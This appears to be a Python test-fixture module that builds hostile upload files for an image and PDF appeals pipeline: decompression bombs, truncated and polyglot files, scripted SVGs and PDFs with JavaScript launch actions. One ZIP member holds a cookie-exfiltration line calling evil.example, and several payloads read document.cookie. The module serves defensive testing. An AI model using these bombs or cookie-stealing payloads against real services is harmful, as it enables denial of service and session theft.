"""Hostile uploads, generated on the fly (nothing binary is committed)."""

import io
import struct
import zlib

from PIL import Image

from appeals.tests.factories import image_bytes


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_pixel_flood(width: int, height: int) -> bytes:
    """A tiny file whose header claims width×height pixels (decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b""))
            + _chunk(b"IEND", b""))


def truncated_png() -> bytes:
    data = image_bytes("PNG", size=(600, 900))
    return data[: len(data) // 2]


def png_with_html() -> bytes:
    return image_bytes("PNG") + b"<html><script>alert(document.cookie)</script></html>"


def jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (320, 640), (200, 220, 240))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    gps = {1: "N", 2: (31.0, 14.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0)}
    exif[0x8825] = gps  # GPSInfo
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
TEXT = b"this is not an image, whatever its name says\n"


def oversized(megabytes: int = 11) -> bytes:
    return image_bytes("PNG") + b"\0" * (megabytes * 1024 * 1024)


# --- more generators for test_hostile_corpus.py --------------------------------------------------


def _save(image: Image.Image, fmt: str, **kwargs) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **kwargs)
    return out.getvalue()


def png_large(width: int, height: int, alpha: bool = False) -> bytes:
    """A real, fully decodable RGB (or RGBA) PNG of width×height, written row by row so that making
    it costs a few MB instead of the full bitmap (a diagonal pattern, so it is not all one colour)."""
    channels = 4 if alpha else 3
    base = bytes((x * 7) & 0xFF for x in range(width * channels + 256))
    compressor = zlib.compressobj(1)
    parts = []
    for y in range(height):
        shift = (y * 3) % 256
        parts.append(compressor.compress(b"\x00" + base[shift:shift + width * channels]))
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 8, 6 if alpha else 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", b"".join(parts))
            + _chunk(b"IEND", b""))


def flipped_middle(data: bytes, count: int = 16) -> bytes:
    """The same file with `count` bytes in the middle inverted (bit rot, a bad transfer)."""
    middle = len(data) // 2
    return data[:middle] + bytes(byte ^ 0xFF for byte in data[middle:middle + count]) + data[middle + count:]


def truncated_jpeg() -> bytes:
    data = image_bytes("JPEG", size=(600, 900))
    return data[: len(data) // 2]


def gif() -> bytes:
    return _save(Image.new("RGB", (120, 120), (200, 30, 30)), "GIF")


def _frames():
    return [Image.new("RGB", (120, 120), colour) for colour in ((250, 0, 0), (0, 0, 250), (0, 200, 0))]


def animated(fmt: str) -> bytes:
    """A three-frame animation: "GIF", "WEBP" or "PNG" (APNG)."""
    first, *rest = _frames()
    return _save(first, fmt, save_all=True, append_images=rest, duration=100, loop=0)


def png_html_polyglot() -> bytes:
    """A valid PNG carrying an HTML page in a tEXt chunk: a browser sniffing it as HTML would run it."""
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "<html><body><script>alert(document.cookie)</script></body></html>")
    return image_bytes("PNG", pnginfo=info)


ZIP_MEMBER = "payload.js"


def jpeg_zip_polyglot() -> bytes:
    """A JPEG with a ZIP archive appended: both an image viewer and unzip open it."""
    import zipfile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr(ZIP_MEMBER, "fetch('https://evil.example/?c=' + document.cookie)")
    return image_bytes("JPEG") + archive.getvalue()


def tiff() -> bytes:
    return _save(Image.new("RGB", (120, 120), (10, 120, 200)), "TIFF")


def psd_header() -> bytes:
    """The start of a Photoshop file: signature, version 1, 3 channels, 100×100, 8 bits, RGB."""
    return (b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 100, 100, 8, 3) + b"\x00" * 64)


def fits_header() -> bytes:
    """A minimal FITS file (astronomy): 80-column header cards padded to 2880 bytes, then the data."""
    cards = ["SIMPLE  =                    T", "BITPIX  =                    8", "NAXIS   =                    2",
             "NAXIS1  =                   10", "NAXIS2  =                   10", "END"]
    header = "".join(card.ljust(80) for card in cards).ljust(2880).encode("ascii")
    return header + b"\x00" * 2880


def cmyk_jpeg() -> bytes:
    return _save(Image.new("CMYK", (320, 480), (10, 200, 30, 5)), "JPEG")


def png_16bit() -> bytes:
    """A 16-bit greyscale PNG (mode I;16) with a ramp from 0 to 59800 along row 10."""
    image = Image.new("I;16", (300, 200))
    for x in range(300):
        image.putpixel((x, 10), x * 200)
    return _save(image, "PNG")


HUGE_EXIF_MARKER = b"EXIF-FILLER-"


def jpeg_with_huge_exif(size: int = 60_000) -> bytes:
    """A JPEG whose EXIF UserComment (in the Exif IFD) holds ~60 kB: near the 64 kB APP1 limit."""
    exif = Image.Exif()
    comment = b"ASCII\x00\x00\x00" + (HUGE_EXIF_MARKER * (size // len(HUGE_EXIF_MARKER) + 1))[:size]
    exif.get_ifd(0x8769)[0x9286] = comment  # Exif IFD → UserComment
    return _save(Image.new("RGB", (320, 480), (240, 240, 240)), "JPEG", exif=exif.tobytes())


def jpeg_rotated_by_exif(size=(200, 400)) -> bytes:
    """A JPEG (200×400 unless told) whose EXIF says "rotate 90° clockwise" (orientation 6)."""
    exif = Image.Exif()
    exif[0x0112] = 6
    return _save(Image.new("RGB", size, (30, 30, 30)), "JPEG", exif=exif.tobytes())


# The EICAR anti-virus test string: harmless, but every scanner flags it.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


# --- HEIC and PDF ----------------------------------------------------------------------------------


def heic_of(image: Image.Image, orientation: int | None = None) -> bytes:
    """The image as an iPhone saves it: HEVC in a HEIF box with Apple's EXIF; `orientation` is stored
    as HEIF's own rotation."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    exif = Image.Exif()
    if orientation:
        exif[0x0112] = orientation
    exif[0x010F] = "Apple"
    exif[0x0110] = "iPhone 15"
    return _save(image, "HEIF", quality=80, exif=exif.tobytes())


def heic(size=(1170, 2532), orientation: int | None = None, colour=(245, 245, 245)) -> bytes:
    image = Image.new("RGB", size, colour)
    image.paste((30, 30, 30), (0, 0, size[0] // 4, size[1] // 8))  # a dark corner, to see the rotation
    return heic_of(image, orientation)


def heic_huge(width: int = 60000, height: int = 60000) -> bytes:
    """A small HEIC whose image-size box (ispe) claims width×height."""
    data = heic((64, 64))
    at = data.index(b"ispe") + 8  # box type, then version and flags (4 bytes), then width and height
    return data[:at] + struct.pack(">II", width, height) + data[at + 8:]


def _pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of the given objects (numbered from 1, the first the catalog) with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def pdf_receipt(text: bytes = b"Refund 599.00", *, catalog_extra: bytes = b"", page_extra: bytes = b"",
                content: bytes | None = None, extra_objects: tuple[bytes, ...] = (), pages: int = 1) -> bytes:
    """A small text PDF (Helvetica); objects 1–5 are catalog, pages, page, content, font."""
    content = content if content is not None else b"BT /F1 36 Tf 72 720 Td (%s) Tj ET" % text
    kids = b" ".join(b"3 0 R" for _ in range(pages))  # the same page object, `pages` times
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> %s>>" % page_extra,
        _stream(b"", content), b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", *extra_objects,
    ])


def pdf_with_javascript(url: str) -> bytes:
    """JavaScript run on open and on a page's open, launching `url`, plus a submit-form action."""
    js = b"app.launchURL('%s', true); this.submitForm('%s');" % (url.encode(), url.encode())
    return pdf_receipt(catalog_extra=b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >> ",
                       page_extra=b"/AA << /O 6 0 R >>", extra_objects=(b"<< /S /JavaScript /JS (%s) >>" % js,))


def pdf_with_external_references(url: str) -> bytes:
    """A link and a remote go-to on the page, an image XObject whose data lives at `url` (/F), and a
    launch action on open."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (%s) >> >>" % url.encode()
    remote = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F << /FS /URL /F (%s) >> " \
             b"/D [0 /Fit] >> >>" % url.encode()
    image = b"<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceRGB " \
            b"/BitsPerComponent 8 /F << /FS /URL /F (%s) >> /Length 0 >>\nstream\n\nendstream" % url.encode()
    return pdf_receipt(
        catalog_extra=b"/OpenAction << /S /Launch /F (%s) >> " % url.encode(),
        page_extra=b"/Annots [6 0 R 7 0 R] /Resources << /Font << /F1 5 0 R >> /XObject << /Im1 8 0 R >> >> ",
        content=b"BT /F1 36 Tf 72 720 Td (Refund 599.00) Tj ET q 100 0 0 100 72 500 cm /Im1 Do Q",
        extra_objects=(link, remote, image))


def pdf_encrypted(user_password: str = "secret") -> bytes:
    """The receipt encrypted (RC4, 128 bits); an empty user password opens without asking."""
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=io.BytesIO(pdf_receipt()))
    writer.encrypt(user_password, owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _deflated_spaces(count: int) -> bytes:
    """zlib data inflating to `count` spaces, made in a blink: one 10 MB block deflated once and
    repeated (a full flush makes each repeat stand alone), the checksum by its closed form."""
    chunk = 10_000_000
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    count = count // chunk * chunk
    low, high = (1 + count * 0x20) % 65521, (count + 0x20 * count * (count + 1) // 2) % 65521
    return b"\x78\xda" + block * (count // chunk) + packer.flush() + struct.pack(">I", high << 16 | low)


def pdf_bomb(inflated: int = 2_000_000_000) -> bytes:
    """A page whose content stream is about 2 MB of Deflate that inflates to `inflated` bytes."""
    data = _deflated_spaces(inflated)
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(b"/Filter /FlateDecode", data),
    ])


def pdf_huge_page() -> bytes:
    """A page of 200 × 200 inches, the largest PDF allows: 30000 px a side at 150 dpi."""
    return pdf_receipt().replace(b"[0 0 595 842]", b"[0 0 14400 14400]")


def png_strip(height: int, width: int = 1) -> bytes:
    """A grey PNG one pixel wide and `height` tall, compressed while it is written (a 40-million-row
    file is about 80 kB): passes a pixel count, breaks the JPEG encoder (65,500 px at most)."""
    compressor, row = zlib.compressobj(9), b"\x00" + b"\x80" * width
    body = [compressor.compress(row * 100_000) for _ in range(height // 100_000)]
    body += [compressor.compress(row * (height % 100_000)), compressor.flush()]
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", b"".join(body))
            + _chunk(b"IEND", b""))


def jpeg_strip(height: int = 65_000) -> bytes:
    """A 1×65,000 JPEG: encodes fine, and makes RapidOCR's resize raise."""
    return _save(Image.new("L", (1, height), 128), "JPEG")
